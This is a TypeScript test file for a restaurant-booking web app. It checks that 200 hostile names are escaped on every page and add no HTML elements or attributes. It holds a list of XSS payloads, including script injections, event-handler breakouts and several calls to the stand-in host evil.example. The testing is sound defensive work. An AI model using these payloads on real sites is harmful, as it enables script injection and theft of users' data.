// Tests that names are text on every page, also on those for owners: 200 hostile ones, of members, venues, seatings and
// requests, give pages with exactly the elements and attributes that harmless names give.
import { describe, expect, it } from 'vitest'
import { freePort } from '../../../bots/kit/testing/free-port.ts'
import { cities } from '../../../sandbox/cities.ts'
import type { VenueSpec } from '../../../sandbox/world.ts'
import { commands } from '../../../src/commands/index.ts'
import type { EveningId } from '../../../src/domain/evening.ts'
import type { MemberId } from '../../../src/domain/ids.ts'
import { addDays, addMs, DAY_MS, type LocalDate, type LocalTime } from '../../../src/domain/time.ts'
import { pages } from '../../../src/http/page/pages/index.ts'
import { ben, group, openWorld, type World } from '../world.ts'
import { createPageClient } from './page-client.ts'
import { formsOf, signIn } from './read-page.ts'
import { whileTimePasses } from './while-time-passes.ts'

const payloads = [
  '"><script>live(#)</script>',
  "'><script>live(#)</script>",
  '<img src=x onerror=live(#)>',
  '" onmouseover="live(#)" x="',
  "' onfocus='live(#)' autofocus='",
  '</textarea><script>live(#)</script>',
  '</title><script>live(#)</script>',
  '</option></select><b onclick=live(#)>',
  '<svg onload=live(#)>',
  '</text></svg><script>live(#)</script>',
  '<!-- # --><script>live(#)</script>',
  '<a href="javascript:live(#)">free</a>',
  '<iframe srcdoc="<script>live(#)</script>">',
  '<meta http-equiv=refresh content="0;url=//evil.example/#">',
  '<base href=//evil.example/#>',
  '<form action=//evil.example/#><input name=csrf>',
  '" hx-get="//evil.example/#" hx-trigger="load',
  '<style>*{background:url(//evil.example/#)}</style>',
  '&lt;script&gt;live(#)&lt;/script&gt;<i #>',
  '</dd></dl><link rel=stylesheet href=//evil.example/#>',
] as const

const venueCount = 40
const namesPerVenue = 4

type Name = (number: number) => string

const hostile: Name = (number) => (payloads[number % payloads.length] ?? '').replaceAll('#', String(number))
const harmless: Name = (number) => `Name ${number}`

function venueOf(number: number, name: Name): VenueSpec {
  const [first, second, third, fourth] = Array.from({ length: namesPerVenue }, (_none, index) =>
    name(number * namesPerVenue + index),
  ) as [string, string, string, string]
  return {
    ...{ id: 9000 + number, name: first, neighborhood: second, ...cities.newYork },
    ...{ cuisine: 'Italian', minParty: 1, maxParty: 6, leadDays: 21, opensAt: '12:00' as LocalTime },
    needToKnow: 'Reservations are released 21 days in advance at 12:00 pm.',
    tables: [third, fourth].map((seating) => ({ time: '19:30' as LocalTime, seating, capacity: 2 })),
  }
}

function escaped(name: string): string {
  return name
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;')
    .replaceAll("'", '&#39;')
}

/** Returns the elements of a document with the names of their attributes, in order. */
function structureOf(text: string): string {
  const tag = /<(\/?[a-zA-Z!][^\s/>]*)((?:\s+[^\s=>"'/]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>"']+))?)*)\s*\/?>/g
  return [...text.matchAll(tag)]
    .map(([, name = '', attributes = '']) => {
      const names = [...attributes.matchAll(/\s([^\s=>"'/]+)(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>"']+))?/g)]
      return [name, ...names.map(([, one]) => one)].join(' ')
    })
    .join('\n')
}

/** Adds a plan of Ada's at the restaurant of one of her requests, to which friends with those names answered. */
async function planWithFriends({ cierge, clock }: World, name: Name): Promise<string> {
  const { store } = cierge().app
  const [job] = await store.jobs.of('m-Ada' as MemberId)
  if (!job) throw new Error('Ada has a request')
  const { venue, date, wish, memberId, askedBy } = job
  const [id, at] = ['K7Q2M' as EveningId, clock.now()]
  const until = addMs(at, 30 * DAY_MS)
  await store.plans.save({
    ...{ id, memberId, askedBy, askedIn: group, askedAt: at, days: [date], nights: [{ venue, date }], wish },
    ...{ quorum: 9, decideBy: until, until, state: 'open', dropped: [] },
  })
  for (const number of [163, 164]) {
    const by = { ...ben, userId: `friend-${number}` }
    await store.eveningAnswers.save(id, { by, name: name(number), days: [date], guests: 1, at })
  }
  return `/plans/${id}`
}

/** Returns the paths of pages that no address leads to. */
function unseenPages(addresses: readonly string[]): readonly string[] {
  const paths = addresses.map((address) => address.split('?')[0] ?? '')
  const isSeen = (pattern: string) => {
    const shape = new RegExp(`^${pattern.replaceAll(/:\w+/g, '[^/]+')}$`)
    return paths.some((path) => shape.test(path))
  }
  return pages.map(({ path }) => path).filter((path) => !isSeen(path))
}

/** Returns the commands of a chat that the text of a document names. */
function commandsIn(text: string): readonly string[] {
  const said = text.slice(text.indexOf('<main')).replaceAll(/<[^>]*>/g, ' ')
  // A code for `/join`, and a new link with `/page`, are sent in a chat.
  const names = commands.map(({ name }) => name).filter((name) => name !== 'join' && name !== 'page')
  return names.filter((name) => new RegExp(`(?:^|\\s|\\()/${name}\\b`).test(said))
}

type Visited = {
  /** The text of each document, by the document's name. */
  readonly seen: ReadonlyMap<string, string>
  readonly addresses: readonly string[]
}

/** Opens every page of an application whose data has those names. */
async function visitAll(name: Name): Promise<Visited> {
  const port = await freePort()
  const person = { password: 'secret', cards: [{ id: 1, type: 'visa', lastFour: '4242' }] } as const
  const world = await openWorld({
    env: { CIERGE_HTTP_PORT: `${port}` },
    owners: [ben],
    sandbox: {
      world: {
        venues: Array.from({ length: venueCount }, (_none, number) => venueOf(number, name)),
        members: [{ email: 'ada@example.com', firstName: name(160), lastName: name(161), ...person }],
      },
    },
  })
  const browser = createPageClient(`http://localhost:${port}`)
  const seen = new Map<string, string>()
  const requests: string[] = []
  const addresses: string[] = []
  const open = async (path: string, called = path, by = browser) => {
    addresses.push(path)
    const { text } = await whileTimePasses(world, by.open(path))
    seen.set(called, text)
    return text
  }
  /** Fills in a form of the page, and stores the answer. */
  const fill = async (page: string, fields: Readonly<Record<string, string>>, called: string) => {
    const form = formsOf(page).find((one) => (one.fields.do ?? '') === (fields.do ?? ''))
    const { text, headers } = await whileTimePasses(
      world,
      browser.send(form?.action || called.replace(/^typed/, '/new').split(' ')[0] || '/', {
        ...form?.fields,
        ...fields,
      }),
    )
    seen.set(called, text)
    return { text, to: headers.get('location') ?? '' }
  }

  /** Opens the pages for owners, as Ben, while Ada has a name of each kind. */
  const visitAsOwner = async () => {
    const owners = createPageClient(`http://localhost:${port}`)
    await signIn(world, owners, ben)
    await world.clock.runUntil(world.cierge().app.store.members.rename('m-Ben' as MemberId, name(163)))
    const code = requests[0]?.split('/').at(-1) ?? ''
    const ofOwners = [
      ...pages.filter((page) => page.for === 'owners').map(({ path }) => path),
      ...['/admin/requests?state=ended', '/figures?of=everyone', '/leave'],
    ]
    for (let number = 0; number < payloads.length; number += 1) {
      await world.clock.runUntil(world.cierge().app.store.members.rename('m-Ada' as MemberId, name(number)))
      for (const path of ofOwners) {
        await world.pass(1_000)
        const id = path.includes('/members/') ? 'm-Ada' : code
        await open(path.replaceAll(/:\w+/g, id), `owner ${number} ${path}`, owners)
      }
    }
  }

  await world.says('/members limits 100', ben)
  await world.says('/link resy ada@example.com secret')
  await signIn(world, browser)
  await world.clock.runUntil(world.cierge().app.store.members.rename('m-Ada' as MemberId, name(162)))
  for (let number = 0; number < venueCount; number += 1) {
    const date = addDays('2026-12-16' as LocalDate, number)
    const table = { restaurant: `resy:${9000 + number}`, date, party: '2', from1: '19:00', until1: '21:00' }
    // Every second request names a seating, which Cierge reads as words.
    const seating = number % 2 === 0 ? { seating: name(number * namesPerVenue + 2) } : {}
    const draft = await fill(await open('/new'), { ...table, ...seating }, `/new ${number}`)
    const [, address = ''] = /data-address="([^"]*)"/.exec(draft.text) ?? []
    if (number < 10) await open(address, `draft ${number}`)
    const { to } = await fill(draft.text, { do: 'confirm' }, `confirmed ${number}`)
    requests.push(to)
  }
  const plan = await world.clock.runUntil(planWithFriends(world, name))
  const plain = [
    '/',
    '/new',
    '/accounts',
    '/settings',
    '/keys',
    '/calendar',
    '/sessions',
    '/data',
    '/leave',
    '/week',
    '/figures',
  ]
  for (const path of [...plain, '/accounts/resy/link', '/accounts/resy/unlink']) await open(path)
  await open(plan)
  for (const [number, path] of requests.entries()) {
    await open(path, `request ${number}`)
    for (const what of ['change', 'again', 'watch', 'cancel'])
      if (number < 10) await open(`${path}/${what}`, `${what} ${number}`)
  }
  const [booked = ''] = requests
  await open(`${booked}/rehearsal`, 'rehearsal')
  await world.passUntil('2026-11-25T17:01:00Z')
  await open(booked, 'booked')
  await open('/tables')
  await open(`/restaurants/${encodeURIComponent('resy:9000')}`)
  await fill(await open('/new'), { restaurant: 'Nowhere At All' }, '/new refused')
  await open(`${booked.replace('/requests', '/tables')}/release`, 'release')
  for (let number = 0; number < 163; number += 1) {
    await world.clock.runUntil(world.cierge().app.store.members.rename('m-Ada' as MemberId, name(number)))
    await open('/sessions', `named ${number}`)
    await world.pass(500)
  }
  for (let number = 163; number < 200; number += 1) {
    await world.clock.runUntil(world.cierge().app.store.members.rename('m-Ada' as MemberId, name(number)))
    const typed = name(number)
    // Time passes, so that no page answers that it was called too often.
    await world.pass(5_000)
    await fill(
      await open('/new', `as ${number}`),
      { restaurant: typed, words: typed, from1: 'x' },
      `typed ${number}`,
    )
    await fill(await open('/settings'), { zone: typed, city: typed }, `/settings ${number}`)
    await fill(await open('/keys'), { do: 'make', name: typed, days: typed }, `/keys ${number}`)
    const { text } = await whileTimePasses(world, browser.open(`/requests/${encodeURIComponent(typed)}`))
    seen.set(`unknown ${number}`, text)
  }
  for (const number of [163, 164, 165, 166])
    await fill(await open('/keys'), { do: 'make', name: name(number) }, `/keys made ${number}`)
  await open('/keys')
  await visitAsOwner()
  await world.end()
  return { seen, addresses }
}

describe('names on the page', () => {
  it('200 hostile names add no element and no attribute to any page', async () => {
    const [{ seen: calm, addresses }, { seen: wild }] = [await visitAll(harmless), await visitAll(hostile)]
    const usual = new Set([...calm.values()].flatMap((text) => structureOf(text).split('\n')))
    // Lists that are sorted by name may differ in their order.
    const sorted = (text: string) => structureOf(text).split('\n').toSorted().join('\n')
    // Cierge reads these fields as words, so it may refuse a hostile one for another reason than a harmless one.
    const isStrange = ([page, text]: readonly [string, string]) =>
      page.startsWith('typed')
        ? structureOf(text)
            .split('\n')
            .some((element) => !usual.has(element))
        : sorted(text) !== sorted(calm.get(page) ?? '')
    const differing = [...wild].filter(isStrange)
    const all = [...wild.values()].join('\n')
    const hidden = Array.from({ length: 200 }, (_none, number) => hostile(number)).filter(
      (name) => !all.includes(escaped(name)),
    )

    const strange = differing.map(([page, text]) => [
      page,
      ...structureOf(text)
        .split('\n')
        .filter((element) => !usual.has(element)),
    ])

    expect(unseenPages(addresses)).toEqual([])
    expect(strange).toEqual([])
    expect([...calm].flatMap(([page, text]) => commandsIn(text).map((command) => [page, command]))).toEqual(
      [],
    )
    expect(wild.size).toBeGreaterThan(300)
    expect(hidden).toEqual([])
  }, 600_000)
})
